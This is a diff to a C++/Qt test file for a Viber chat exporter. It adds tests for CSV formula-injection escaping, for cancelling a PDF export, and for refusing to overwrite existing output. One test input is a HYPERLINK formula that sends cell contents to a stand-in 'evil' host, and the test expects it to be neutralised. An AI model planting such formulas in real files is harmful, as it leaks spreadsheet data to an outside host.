@@ -8,6 +8,9 @@
 #include "workers/ExportViberCallsThread.h"
 #include "workers/ExtractMediaFilesThread.h"
 
+#include <QJsonArray>
+#include <QJsonDocument>
+#include <QJsonObject>
 #include <QRegularExpression>
 #include <QTemporaryDir>
 #include <QTest>
@@ -117,12 +120,12 @@ private slots:
         QTest::newRow("csv")
             << int(ExportMessagesThread::Csv)
             << QStringList{u"^date,send,person,number,content$"_s,
-                           u"^2014-01-31 09:30:05,1,Ann,\\+111,\"line one\r?$"_s,
+                           u"^2014-01-31 09:30:05,1,Ann,'\\+111,\"line one\r?$"_s,
                            u"^line two\"$"_s,
-                           u"^2014-01-31 09:30:05,0,\u05D3\u05E0\u05D4,\\+222,\"say \"\"hi\"\", all\"$"_s,
+                           u"^2014-01-31 09:30:05,0,\u05D3\u05E0\u05D4,'\\+222,\"say \"\"hi\"\", all\"$"_s,
                            u",0,,,"_s,
                            u",0,,,Missed Call"_s,
-                           u",0,Ann,\\+111,\\[IMAGE\\] look \U0001F600$"_s,
+                           u",0,Ann,'\\+111,\\[IMAGE\\] look \U0001F600$"_s,
                            u"^2014-02-02 00:00:01,1,,My Notes,\"note\rto self\"$"_s};
     }
     void textAndCsvRows()
@@ -157,6 +160,46 @@ private slots:
         ExportMessagesThread empty({chatless}, none, format);
         QCOMPARE(run(empty), Outcome::Succeeded);
         QVERIFY(!QFileInfo::exists(none));
+    }
+    // A spreadsheet opening the CSV runs no formula from a name or a text; the other
+    // formats keep the text as written.
+    void csvCellsAreNoFormulas_data()
+    {
+        QTest::addColumn<QString>("text");
+        QTest::addColumn<QString>("cell");
+        QTest::newRow("formula") << u"=HYPERLINK(\"http://evil/?\"&A1,\"Ann\")"_s
+                                 << u"\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"Ann\"\")\""_s;
+        QTest::newRow("plus") << u"+1+2"_s << u"'+1+2"_s;
+        QTest::newRow("minus") << u"-2+3"_s << u"'-2+3"_s;
+        QTest::newRow("at") << u"@SUM(A1)"_s << u"'@SUM(A1)"_s;
+        QTest::newRow("tab") << u"\t=1"_s << u"'\t=1"_s;
+        QTest::newRow("carriage return") << u"\r=1"_s << u"\"'\r=1\""_s;
+        QTest::newRow("inside") << u"a=b-c"_s << u"a=b-c"_s;
+        QTest::newRow("space first") << u" =1"_s << u" =1"_s;
+    }
+    void csvCellsAreNoFormulas()
+    {
+        QFETCH(QString, text);
+        QFETCH(QString, cell);
+        QTemporaryDir dir;
+        MessageFixture f;
+        _ViberPerson *sender = f.addPerson(text, u"+49"_s);
+        f.addMessage(f.addChat(QString(), {sender}), ViberMsgTypeText, kDay1, false, text)->person = sender;
+        const QString csv = dir.filePath(u"out.csv"_s);
+        const QString txt = dir.filePath(u"out.txt"_s);
+        const QString json = dir.filePath(u"out.json"_s);
+        for (const auto &[path, format] :
+             {std::pair{csv, int(ExportMessagesThread::Csv)}, std::pair{txt, int(ExportMessagesThread::Text)},
+              std::pair{json, int(ExportMessagesThread::Json)}}) {
+            ExportMessagesThread worker(f.messages(), path, format);
+            QCOMPARE(run(worker), Outcome::Succeeded);
+        }
+        QCOMPARE(readText(csv).section(u'\n', 1, -2), u"2014-01-31 09:30:05,0,%1,'+49,%1"_s.arg(cell));
+        QVERIFY(readText(txt).contains(QString(text).replace(u'\r', u' ')));
+        const QJsonArray chats = QJsonDocument::fromJson(testsupport::readFile(json)).array();
+        const QJsonObject message = chats[0][u"messages"_s][0].toObject();
+        QCOMPARE(message[u"text"_s].toString(), text);
+        QCOMPARE(message[u"sender"_s][u"name"_s].toString(), text);
     }
     void htmlPagesAndIndex()
     {
@@ -251,6 +294,7 @@ private slots:
         const QStringList before = treeOf(dir.path());
 
         ExportMessagesThread worker(messages, target, format);
+        worker.setReplaceExisting(true);
         RecordingReporter reporter;
         if (cancel)
             reporter.cancelWhen = [](const RecordingReporter &r) { return r.details.size() == 10; };
@@ -269,10 +313,101 @@ private slots:
         if (format == 7)
             QCOMPARE(reporter.errors, QStringList{u"not support export format."_s});
         else if (!cancel)
-            QVERIFY2(reporter.errors.value(0).contains(QDir::toNativeSeparators(target)),
+            QVERIFY2(reporter.errors.value(0).contains(QDir::toNativeSeparators(target)) &&
+                         !reporter.errors.value(0).contains(u"Unknown error"_s),
                      qPrintable(reporter.errors.value(0)));
         QCOMPARE(treeOf(dir.path()), before);
         QCOMPARE(readText(own), u"the user's own"_s);
+    }
+    // A cancel stops a PDF inside a long message, not after it, and leaves nothing.
+    void cancelInsideALongMessage()
+    {
+        QTemporaryDir dir;
+        MessageFixture f;
+        _ViberChat *chat = f.addChat(QString(), {f.addPerson(u"Ann"_s, u"+1"_s)});
+        f.addMessage(chat, ViberMsgTypeText, kDay1, false, u"a long message "_s.repeated(20000));
+        ExportMessagesThread worker(f.messages(), dir.filePath(u"pdf"_s), ExportMessagesThread::Pdf);
+        RecordingReporter reporter;
+        // At the first sign of progress within the message.
+        reporter.cancelWhen = [](const RecordingReporter &r) {
+            return std::any_of(r.percents.cbegin(), r.percents.cend(),
+                               [](int p) { return p > 0 && p < 100; });
+        };
+        QCOMPARE(run(worker, reporter), Outcome::Cancelled);
+        QVERIFY2(*std::max_element(reporter.percents.cbegin(), reporter.percents.cend()) < 50,
+                 qPrintable(QString::number(reporter.percents.last())));
+        QCOMPARE(treeOf(dir.path()), QStringList());
+        QCOMPARE(QDir(dir.path()).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot),
+                 QStringList());
+    }
+    // What is at the output path stays unless the export is told to replace it; a
+    // folder is written under a temporary name and named when complete.
+    void exportsNeverOverwrite_data()
+    {
+        QTest::addColumn<int>("format");
+        QTest::addColumn<QString>("name");
+        QTest::newRow("text") << int(ExportMessagesThread::Text) << u"out.txt"_s;
+        QTest::newRow("csv") << int(ExportMessagesThread::Csv) << u"out.csv"_s;
+        QTest::newRow("json file") << int(ExportMessagesThread::Json) << u"out.json"_s;
+        QTest::newRow("pdf") << int(ExportMessagesThread::Pdf) << u"out"_s;
+        QTest::newRow("html") << int(ExportMessagesThread::Html) << u"out"_s;
+        QTest::newRow("json folder") << int(ExportMessagesThread::Json) << u"out"_s;
+    }
+    void exportsNeverOverwrite()
+    {
+        QFETCH(int, format);
+        QFETCH(QString, name);
+        QTemporaryDir dir;
+        Sample s(dir.path());
+        const QString target = dir.filePath(name);
+        const bool folder = ExportMessagesThread::writesFolder(format, target);
+        // The user's own file, where the export would write.
+        const QString own = folder ? target + u"/index.html"_s : target;
+        writeFile(own, "the user's own");
+        const QStringList before = treeOf(dir.path());
+        ExportMessagesThread refused(s.all(), target, format);
+        RecordingReporter reporter;
+        QCOMPARE(run(refused, reporter), Outcome::Failed);
+        QVERIFY2(reporter.errors.value(0).contains(QDir::toNativeSeparators(target) + u" already"_s),
+                 qPrintable(reporter.errors.value(0)));
+        QCOMPARE(treeOf(dir.path()), before);
+
+        // Told to: a file is replaced; in a folder the user's other files stay.
+        ExportMessagesThread forced(s.all(), target, format);
+        forced.setReplaceExisting(true);
+        QCOMPARE(run(forced), Outcome::Succeeded);
+        QCOMPARE(readText(own) == u"the user's own"_s, folder && format != ExportMessagesThread::Html);
+        if (!folder)
+            return;
+        writeFile(target + u"/mine.txt"_s, "mine");
+        ExportMessagesThread again(s.all(), target, format);
+        again.setReplaceExisting(true);
+        QCOMPARE(run(again), Outcome::Succeeded);
+        QCOMPARE(readText(target + u"/mine.txt"_s), u"mine"_s);
+        QCOMPARE(again.chatFiles(), forced.chatFiles());
+
+        // A fresh folder exists only once complete, and the leftover of a run that was
+        // killed is neither taken nor touched.
+        const QString fresh = dir.filePath(u"fresh"_s);
+        const QString leftover = dir.filePath(ExportMessagesThread::stagingFolderName(fresh));
+        writeFile(leftover + u"/half.pdf"_s, "half");
+        ExportMessagesThread worker(s.all(), fresh, format);
+        RecordingReporter watcher;
+        QStringList seen;
+        watcher.cancelWhen = [&](const RecordingReporter &r) {
+            if (r.details.size() == 2)
+                seen = QDir(dir.path()).entryList(QDir::Dirs | QDir::Hidden | QDir::NoDotAndDotDot);
+            return false;
+        };
+        QCOMPARE(run(worker, watcher), Outcome::Succeeded);
+        QVERIFY2(seen.contains(u".fresh.1.chatwharf-part"_s) && !seen.contains(u"fresh"_s),
+                 qPrintable(seen.join(u' ')));
+        QCOMPARE(treeOf(leftover), QStringList{u"half.pdf"_s});
+        QVERIFY(!QFileInfo::exists(dir.filePath(u".fresh.1.chatwharf-part"_s)));
+        QCOMPARE(worker.chatFiles().size(), 2);
+        for (const QString &file : worker.chatFiles())
+            QVERIFY2(QFileInfo(file).isFile() && file.startsWith(fresh + u'/'), qPrintable(file));
+        QVERIFY(watcher.successes.value(0).endsWith(u"to "_s + QDir::toNativeSeparators(fresh) + u'.'));
     }
     void extraction()
     {
